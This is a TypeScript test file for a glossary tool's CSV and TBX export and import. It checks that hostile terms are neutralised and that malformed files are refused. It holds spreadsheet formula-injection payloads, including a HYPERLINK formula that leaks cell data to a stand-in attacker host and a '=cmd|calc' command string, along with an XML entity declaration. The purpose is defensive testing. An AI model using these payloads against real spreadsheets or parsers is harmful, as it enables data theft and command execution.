import { describe, expect, it } from 'vitest';
import fc from 'fast-check';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { toCsv, toTbx } from '../../src/glossary/export.js';
import { ImportError, importTermbase } from '../../src/glossary/import.js';
import { unneutralise } from '../../src/io/csv.js';
import { xmlChars } from '../../src/io/xml.js';
import type { GlossaryEntry } from '../../src/types.js';
import { elementTexts, xmlErrors } from '../helpers/xml.js';
import { tempDir } from '../helpers/temp.js';

/** Hostile input for the glossary exports (docs/hostile-input.md). */
const entry = (over: Partial<GlossaryEntry>): GlossaryEntry => ({
  id: 'c-x', en: 'calcinosis', pt: 'calcinose', type: 'diagnosis', score: 0.9, count: 1, sources: ['d1'], examples: [], origin: 'corpus', ...over,
});

describe('glossary.csv from hostile ids and terms', () => {
  const formula = '=HYPERLINK("http://evil.test/?"&A1,"click")';
  const csv = toCsv([
    entry({ id: 'c-a', sources: [formula, 'd2'] }),
    entry({ id: 'c-b', en: '+1+1', pt: '@SUM(A1)', sources: ['+1+1'], score: -2 }),
    entry({ id: 'c-c', en: '-cmd', pt: '\tcalc', sources: ['\rd'], score: 0.5 }),
  ]);
  const rows = parse(csv, { columns: true }) as Array<Record<string, string>>;

  it('keeps the column layout', () => {
    expect(csv.split('\r\n')[0]).toBe('id,en,pt,type,score,count,sources,origin');
    expect(rows).toHaveLength(3);
  });

  it('starts no cell with a character a spreadsheet runs as a formula', () => {
    for (const row of rows) for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+@\t\r\uFF1D\uFF0B\uFF20]|^-(?!\d)/);
    expect(rows.find((r) => r.id === 'c-a')!.sources).toBe(`'${formula};d2`);
    expect(rows.find((r) => r.id === 'c-b')).toMatchObject({ en: "'+1+1", pt: "'@SUM(A1)", sources: "'+1+1" });
    expect(rows.find((r) => r.id === 'c-c')).toMatchObject({ en: "'-cmd", pt: "'\tcalc", sources: "'\rd" });
  });

  it('writes a negative score as a number, untouched', () => {
    expect(rows.find((r) => r.id === 'c-b')!.score).toBe('-2.000');
  });
});

describe('glossary.tbx from hostile text', () => {
  it('is well-formed with U+FFFE, U+FFFF, lone surrogates and controls in terms, examples and ids', () => {
    const bad = '\uFFFE\uFFFF\uD800\u0001';
    const tbx = toTbx([
      entry({ en: `calc${bad}inosis`, sources: [`d${bad}1`], examples: [{ doc: `d${bad}1`, en: `Calcinosis ${bad}& <b>.`, pt: 'Calcinose.' }] }),
    ]);
    expect(xmlErrors(tbx)).toEqual([]);
    expect(tbx).toContain('<term>calc\uFFFD\uFFFD\uFFFDinosis</term>');
  });
});

const dir = tempDir('mbt-hostile-import-');
let files = 0;
function file(name: string, text: string): string {
  const path = join(dir, `${files++}-${name}`);
  writeFileSync(path, text);
  return path;
}

/** The import's error, or undefined when it read the file. */
function importError(path: string): ImportError | undefined {
  try {
    importTermbase(path);
    return undefined;
  } catch (e) {
    if (e instanceof ImportError) return e;
    throw e;
  }
}

const tbx = (term: string) =>
  `<?xml version="1.0"?>\n<tbx type="TBX-Basic">\n<text><body>\n<conceptEntry id="c1">\n<langSec xml:lang="en"><termSec><term>${term}</term></termSec></langSec>\n<langSec xml:lang="pt"><termSec><term>pele</term></termSec></langSec>\n</conceptEntry>\n</body></text>\n</tbx>\n`;

describe('termbase import of hostile files', () => {
  it('names the file and line of a character reference to no character', () => {
    for (const ref of ['&#99999999;', '&#xFFFE;', '&#1;', '&#xD800;']) {
      const e = importError(file('ref.tbx', tbx(`sk${ref}in`)));
      expect(e, ref).toMatchObject({ line: 5, problem: 'malformedTbx' });
      expect(e!.file).toMatch(/ref\.tbx$/);
    }
  });

  it('refuses entity declarations, naming the line', () => {
    const text = '<?xml version="1.0"?>\n<!DOCTYPE tbx [\n<!ENTITY a "aaaa">\n]>\n' + tbx('&a;').split('\n').slice(1).join('\n');
    expect(importError(file('entity.tbx', text))).toMatchObject({ line: expect.any(Number), problem: 'tbxEntities' });
  });

  it('names the line where an unclosed CSV quote opens, and of a stray quote', () => {
    expect(importError(file('quote.csv', 'en,pt\n\n# note\nskin,"pele\nbone,osso\n'))).toMatchObject({ line: 4, problem: 'unterminatedQuote' });
    expect(importError(file('stray.csv', 'en,pt\nskin,pele\nbone,os"so\n'))).toMatchObject({ line: 3, problem: 'malformedCsv', params: { detail: expect.any(String) } });
  });

  it('reads back the CSV and TBX medbitext writes from hostile terms', () => {
    const entries = [entry({ id: 'c-a', en: '=cmd|calc', pt: "'+x" }), entry({ id: 'c-b', en: 'a\uFFFEb', pt: 'c, "d"' })];
    const csvRows = importTermbase(file('g.csv', toCsv(entries)));
    expect(csvRows.map((r) => [r.en, r.pt])).toEqual([['=cmd|calc', "'+x"], ['a\uFFFEb', 'c, "d"']]);
    const tbxRows = importTermbase(file('g.tbx', toTbx(entries)));
    expect(tbxRows.map((r) => [r.en, r.pt])).toEqual([['=cmd|calc', "'+x"], ['a\uFFFDb', 'c, "d"']]);
  });

  it('reads any text or fails with an ImportError naming a line (fuzz)', () => {
    const pieces = fc.constantFrom('<tbx>', '</tbx>', '<conceptEntry>', '</conceptEntry>', '<langSec xml:lang="en">', '<langSec xml:lang="pt">', '</langSec>', '<term>', '</term>', 'skin', '&#99999999;', '&amp;', '&', '<', '\n', '"', ',', '\t', '\uFFFE', 'en,pt\n', '#', "'=");
    const text = fc.oneof(fc.string({ unit: 'binary', maxLength: 200 }), fc.array(pieces, { maxLength: 40 }).map((p) => p.join('')));
    fc.assert(
      fc.property(text, fc.constantFrom('x.tbx', 'x.csv', 'x.tsv'), (t, name) => {
        const e = importError(file(name, t));
        if (e) expect(e.line).toBeGreaterThanOrEqual(1);
      }),
      { numRuns: 300 },
    );
  });
});

describe('glossary writers (fuzz)', () => {
  const text = fc.oneof(fc.string({ unit: 'binary', maxLength: 30 }), fc.string({ unit: fc.constantFrom('a', ',', '"', '=', '+', '-', '@', "'", '\t', '\r', '\n', '&', '<', '\uFFFE', '\uD800'), maxLength: 12 }));
  const entries = fc.array(fc.record({ id: text, en: text, pt: text, score: fc.double({ min: -5, max: 5, noNaN: true }), count: fc.nat(), sources: fc.array(text, { maxLength: 3 }) }), { maxLength: 4 });

  it('CSV reads back as the values written, every row in place', () => {
    fc.assert(
      fc.property(entries, (list) => {
        const rows = parse(toCsv(list.map((e) => entry(e))), { columns: true }) as Array<Record<string, string>>;
        expect(rows).toHaveLength(list.length);
        const back = rows.map((r) => [unneutralise(r.id!), unneutralise(r.en!), unneutralise(r.pt!)].join('\u0000')).sort();
        // A file holds UTF-8, where a lone surrogate can only be U+FFFD.
        const utf8 = (x: string) => Buffer.from(x).toString();
        expect(back).toEqual(list.map((e) => utf8([e.id, e.en, e.pt].join('\u0000'))).sort());
      }),
      { numRuns: 200 },
    );
  });

  it('TBX is well-formed and its terms read back, forbidden characters aside', () => {
    fc.assert(
      fc.property(entries, (list) => {
        const tbx = toTbx(list.map((e) => entry(e)));
        const terms = elementTexts(tbx, 'term');
        expect(terms.sort()).toEqual(list.flatMap((e) => [xmlChars(e.en), xmlChars(e.pt)]).sort());
      }),
      { numRuns: 200 },
    );
  });
});
